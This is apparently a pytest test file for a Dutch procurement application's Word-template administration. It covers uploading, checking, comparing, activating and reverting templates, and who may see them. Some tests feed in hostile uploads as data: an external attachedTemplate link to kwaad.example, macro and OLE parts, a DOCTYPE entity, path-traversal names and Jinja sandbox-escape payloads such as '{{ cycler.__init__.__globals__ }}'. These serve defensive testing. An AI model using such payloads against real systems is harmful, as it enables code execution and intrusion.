"""The templates of a beheerder: what is refused, what the check shows, taking into use, going back, who did what."""

import pytest

from inkoop.database.session import write_session
from inkoop.document.catalog import SOORTEN, find_sjabloon, get_soort, place_eigen
from inkoop.document.inkomend import MAX_BYTES, MAX_UITGEPAKT
from inkoop.document.sjabloonbeheer import make_hash
from inkoop.gemeente.records import RegioRecord
from inkoop.plaatsen import instance_map, kaders_map, sjablonen_map
from tests.document.wordbestand import replace_part
from tests.fixtures.bezoekers import Bezoeker, read_tekst
from tests.fixtures.stukken import make_pdf
from tests.web.documentwereld import ADVISEUR, BEHEERDER, DEEL, LEZER, Documentwereld, add_member, make_zip, send_file

KADER, SOORT = "deelovereenkomst-drechtsteden-2017", "deelovereenkomst"
ANDER_KADER = "centrumregeling-bno-2024"
BASIS = f"/beheer/sjablonen/{KADER}/{SOORT}"
MEEGELEVERD = (sjablonen_map() / f"{SOORT}.docx").read_bytes()
STANDAARD = make_hash(MEEGELEVERD)
EIGEN = replace_part(
    MEEGELEVERD, "word/document.xml", "Partijen komen het volgende overeen.", "Partijen komen dit overeen."
)
FOUT = replace_part(
    MEEGELEVERD, "word/document.xml", "Partijen komen het volgende overeen.", "Zie {{ aanbeider.naam }}."
)
RELS = "word/_rels/document.xml.rels"
BUITEN = (
    '<Relationship Id="rX" TargetMode="External" Target="https://kwaad.example/x.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
MACRO = replace_part(
    MEEGELEVERD,
    "[Content_Types].xml",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "application/vnd.ms-word.document.macroEnabled.main+xml",
)
DOCTYPE = replace_part(MEEGELEVERD, "word/document.xml", "<w:document ", '<!DOCTYPE x [<!ENTITY y "z">]><w:document ')


@pytest.fixture
def beheerder(wereld: Documentwereld) -> Bezoeker:
    return wereld.visit(BEHEERDER)


def hand_in(beheerder: Bezoeker, inhoud: bytes, basis: str = BASIS) -> str:
    """The address of a template that was handed in."""
    antwoord = send_file(beheerder, basis, inhoud, "eigen.docx")
    assert antwoord.status_code == 303, read_tekst(antwoord)
    assert antwoord.headers["Location"] == f"{basis}/{make_hash(inhoud)}"
    return antwoord.headers["Location"]


def use(beheerder: Bezoeker, versie: str, gezien: str) -> int:
    return beheerder.send(f"{BASIS}/{versie}/gebruik", van=f"{BASIS}/{versie}", gezien=gezien).status_code


@pytest.mark.parametrize(
    ("naam", "inhoud", "melding"),
    [
        ("eigen.docx", make_pdf("a"), "is geen Word-bestand (.docx)"),
        ("eigen.docx", b"PK\x03\x04" + bytes(MAX_BYTES), "is groter dan 10 MB"),
        ("../../x.docx", EIGEN, "geef het bestand een naam zonder map ervoor"),
        ("eigen.docm", MACRO, "met macro's (.docm)"),
        ("eigen.docx", add_member(EIGEN, "word/vbaProject.bin", b"x"), "bevat macro's"),
        ("eigen.docx", add_member(EIGEN, "word/embeddings/oleObject1.bin", b"x"), "bevat een ingesloten bestand"),
        ("eigen.docx", replace_part(EIGEN, RELS, "</Relationships>", BUITEN), "kies in Word bij Ontwikkelaars"),
        ("eigen.docx", DOCTYPE, "heeft een DOCTYPE"),
        ("eigen.docx", make_zip(a=bytes(MAX_UITGEPAKT + 1)), "is uitgepakt te groot"),
        ("eigen.docx", make_zip(a=b"b"), "is geen Word-document"),
        ("", b"", "kies het Word-bestand met het sjabloon"),
    ],
)
def test_what_is_no_safe_template_is_refused(beheerder: Bezoeker, naam: str, inhoud: bytes, melding: str) -> None:
    antwoord = send_file(beheerder, BASIS, inhoud, naam)
    assert antwoord.status_code == 422
    assert melding in read_tekst(antwoord)
    assert "Er is met dit sjabloon nog niets gedaan." in beheerder.open(BASIS)
    assert not (instance_map() / "sjablonen").exists()


def test_a_template_with_a_fault_shows_where_and_is_not_used(beheerder: Bezoeker) -> None:
    adres = hand_in(beheerder, FOUT)
    pagina = beheerder.open(adres)
    assert "1 fout. Dit sjabloon kan niet in gebruik worden genomen." in pagina
    assert "Onder ‘Overwegingen’ tekst, alinea " in pagina
    assert "Zie {{ aanbeider.naam }}." in pagina
    assert "'aanbeider' is geen veld" in pagina
    assert "Neem dit sjabloon in gebruik" not in pagina
    assert use(beheerder, make_hash(FOUT), STANDAARD) == 422
    for vorm in ("lezen", "word", "pdf"):
        assert beheerder.get(f"{adres}/voorbeeld/{vorm}").status_code == 422
    assert find_sjabloon(get_soort(SOORT), KADER) == sjablonen_map() / f"{SOORT}.docx"


def test_the_fields_of_a_kind_are_listed_with_what_they_are(beheerder: Bezoeker) -> None:
    pagina = beheerder.open(f"{BASIS}/velden")
    assert "dienstverleners[].vestigingsplaats tekst" in pagina
    assert "Statutaire vestigingsplaats" in pagina
    assert f"{BASIS}/velden" in beheerder.get(BASIS).text


def test_a_template_that_asks_for_what_is_not_its_business_does_nothing(beheerder: Bezoeker) -> None:
    for tag in (
        "{{ cycler.__init__.__globals__ }}",
        "{% for x in range(9) %}a{% endfor %}",
        "{{ partijen.__class__ }}",
    ):
        inhoud = replace_part(MEEGELEVERD, "word/document.xml", "Partijen komen het volgende overeen.", tag)
        adres = hand_in(beheerder, inhoud)
        assert "kan niet in gebruik worden genomen" in beheerder.open(adres)
        assert use(beheerder, make_hash(inhoud), STANDAARD) == 422


def test_a_template_is_compared_seen_used_and_taken_back(wereld: Documentwereld, beheerder: Bezoeker) -> None:
    adres = hand_in(beheerder, EIGEN)
    pagina = beheerder.open(adres)
    assert "Er zijn geen fouten gevonden" in pagina
    assert "1 verschil gevonden" in pagina
    bron = beheerder.get(adres).text
    assert "<del>het volgende</del>" in bron
    assert "<ins>dit</ins>" in bron
    assert "Partijen komen dit overeen." in beheerder.open(f"{adres}/voorbeeld/lezen")
    assert beheerder.get(f"{adres}/voorbeeld/word").headers["Content-Disposition"].startswith("attachment")
    assert beheerder.get(f"{adres}/bestand").data == EIGEN
    assert beheerder.get(f"{adres}/voorbeeld/exe").status_code == 404
    wereld.make()
    assert use(beheerder, make_hash(EIGEN), STANDAARD) == 303

    eigen = place_eigen(get_soort(SOORT), KADER)
    assert (find_sjabloon(get_soort(SOORT), KADER), eigen.read_bytes()) == (eigen, EIGEN)
    assert list(eigen.parent.iterdir()) == [eigen]
    assert find_sjabloon(get_soort(SOORT), ANDER_KADER) == sjablonen_map() / f"{SOORT}.docx"
    assert "eigen sjabloon" in beheerder.open(f"/beheer/sjablonen?kader={KADER}")
    assert "eigen sjabloon" not in beheerder.open(f"/beheer/sjablonen?kader={ANDER_KADER}").partition("Versie")[2]
    adviseur = wereld.visit(ADVISEUR)
    oud = "/regios/drechtsteden/documenten/1"
    assert "Het sjabloon is sindsdien vervangen." in adviseur.open(oud)
    assert "Partijen komen dit overeen." in adviseur.open(f"{wereld.make()}/lezen")
    assert "Partijen komen dit overeen." not in adviseur.open(f"{oud}/lezen")

    assert use(beheerder, STANDAARD, make_hash(EIGEN)) == 303
    assert not eigen.exists()
    pagina = beheerder.open(BASIS)
    assert "eigen.docx" in pagina
    stappen = pagina.partition("Wie deed wat")[2]
    assert stappen.count("sjabloon in gebruik genomen") == 2
    assert stappen.count("sjabloon ingeleverd") == 1
    assert "Bea Beheer" in stappen


def test_two_who_choose_at_once_do_not_undo_each_other(beheerder: Bezoeker) -> None:
    hand_in(beheerder, EIGEN)
    assert use(beheerder, make_hash(EIGEN), STANDAARD) == 303
    antwoord = beheerder.send(f"{BASIS}/{STANDAARD}/gebruik", van=f"{BASIS}/{STANDAARD}", gezien=STANDAARD)
    assert antwoord.status_code == 409
    assert "Intussen nam iemand een ander sjabloon in gebruik" in read_tekst(antwoord)
    assert place_eigen(get_soort(SOORT), KADER).read_bytes() == EIGEN


def test_a_template_that_was_put_in_the_folder_can_be_gone_back_to(beheerder: Bezoeker) -> None:
    pad = place_eigen(get_soort(SOORT), KADER)
    pad.parent.mkdir(parents=True)
    pad.write_bytes(EIGEN)
    assert "in de map gezet" in beheerder.open(BASIS)
    assert use(beheerder, STANDAARD, make_hash(EIGEN)) == 303
    assert not pad.exists()
    assert use(beheerder, make_hash(EIGEN), STANDAARD) == 303
    assert pad.read_bytes() == EIGEN


def test_the_same_template_twice_is_kept_once(beheerder: Bezoeker) -> None:
    assert hand_in(beheerder, EIGEN) == hand_in(beheerder, EIGEN)
    assert beheerder.open(BASIS).count("sjabloon ingeleverd") == 1
    hand_in(beheerder, EIGEN, f"/beheer/sjablonen/{ANDER_KADER}/{SOORT}")


@pytest.mark.parametrize(
    "pad",
    [
        f"/beheer/sjablonen/{KADER}/factuur",
        f"/beheer/sjablonen/nergens/{SOORT}",
        f"/beheer/sjablonen/..%2f..%2fx/{SOORT}",
        f"{BASIS}/{'0' * 64}",
        "/beheer/sjablonen?kader=nergens",
    ],
)
def test_what_is_not_there(beheerder: Bezoeker, pad: str) -> None:
    assert beheerder.get(pad).status_code == 404


def test_only_a_beheerder_sees_templates_and_the_check_of_kaders(wereld: Documentwereld) -> None:
    for wie in (ADVISEUR, LEZER):
        bezoeker = wereld.visit(wie)
        assert {bezoeker.get(pad).status_code for pad in ("/beheer/sjablonen", BASIS, "/beheer/kaders")} == {404}
        assert "sjablonen" not in bezoeker.get("/kaders").text


def test_every_template_that_is_shipped_is_without_faults_on_its_page(beheerder: Bezoeker) -> None:
    overzicht = beheerder.open(f"/beheer/sjablonen?kader={KADER}")
    assert overzicht.count("meegeleverd") == len(SOORTEN)
    soort = "sroi-melding"
    versie = make_hash((sjablonen_map() / f"{soort}.docx").read_bytes())
    assert "Er zijn geen fouten gevonden" in beheerder.open(f"/beheer/sjablonen/{KADER}/{soort}/{versie}")


def test_the_beheerder_sees_the_check_of_every_kader(wereld: Documentwereld, beheerder: Bezoeker) -> None:
    map_ = instance_map() / "kaders"
    map_.mkdir(parents=True)
    goed = (kaders_map() / f"{KADER}.yaml").read_text("utf-8")
    (map_ / "kapot.yaml").write_text(goed.replace("kader: ", "kaader: ", 1), encoding="utf-8")
    (map_ / "leeg.yaml").write_text("{", encoding="utf-8")
    pagina = beheerder.open("/beheer/kaders")
    kapot = pagina.partition(" kapot ")[2].partition(" leeg ")[0]
    assert "niet te gebruiken Een kader van deze installatie." in kapot
    assert "kapot.yaml:" in kapot
    assert str(map_) not in pagina
    assert f"{KADER} in orde" in pagina
    assert "2 kaders hebben een fout" in wereld.visit(LEZER).open("/kaders")


def test_a_document_made_with_a_template_keeps_its_number_of_documents(
    wereld: Documentwereld, beheerder: Bezoeker
) -> None:
    wereld.make(bij=DEEL)
    rij = beheerder.open(BASIS).partition(STANDAARD[:12])[2]
    assert "1 in gebruik" in rij[:120]


def test_a_kader_of_more_regios_is_named_after_all(wereld: Documentwereld, beheerder: Bezoeker) -> None:
    with write_session(wereld.engine) as session:
        session.add(RegioRecord(code="zz", naam="Zuidwest", kader=KADER))
    assert "en 1 andere regio" in read_tekst(beheerder.get(f"/beheer/sjablonen?kader={KADER}"))
